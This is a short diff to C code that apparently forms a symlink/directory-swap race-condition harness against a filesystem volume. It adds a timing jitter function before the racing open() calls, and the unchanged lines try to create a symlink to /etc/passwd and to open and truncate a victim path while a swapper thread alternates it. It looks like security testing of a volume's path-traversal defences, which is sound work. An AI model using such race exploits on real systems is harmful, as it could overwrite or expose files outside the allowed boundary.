@@ -97,6 +97,19 @@ static void put(int dir, const char *name) {
     }
 }
 
+/* A pause of 0 to 1 ms, different each time: after restore() the swapper and this thread
+ * start together, and without it each try's open met the swap at the same point, so that
+ * one target could see only the directory (or only the symlink) in a whole run. */
+static void jitter(void) {
+    static unsigned state = 2463534242u;
+    state ^= state << 13;
+    state ^= state >> 17;
+    state ^= state << 5;
+    double until = attack_now() + (state & 1023) / 1e6;
+    while (attack_now() < until) {
+    }
+}
+
 /* The volume's own files as they were, through the directory's fd (the swapper holds still). */
 static void restore(int dir, const char *hardlink) {
     atomic_store(&hold, 1);
@@ -141,6 +154,7 @@ static void race(int k, const char *target, const char *subpath, const char *vol
     long i, open_ok = 0, open_refused = 0, last_ok = 0, last_refused = 0;
     struct timespec times[2] = {{1, 0}, {1, 0}};
     for (i = 0; attack_more(i) && attack_now() < until; i++) {
+        jitter();
         int fd = open(victim, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
         if (fd >= 0) {
             struct stat st;
@@ -165,6 +179,7 @@ static void race(int k, const char *target, const char *subpath, const char *vol
         count(SYMLINK, symlink("/etc/passwd", sym));
         count(MKDIR, mkdir(made, 0755));
         count(XATTR, setxattr(victim, "user.hvfs", "attack", 6, 0));
+        jitter();
         fd = open(f, O_WRONLY | O_TRUNC | O_CLOEXEC);
         if (fd >= 0) {
             struct stat st;
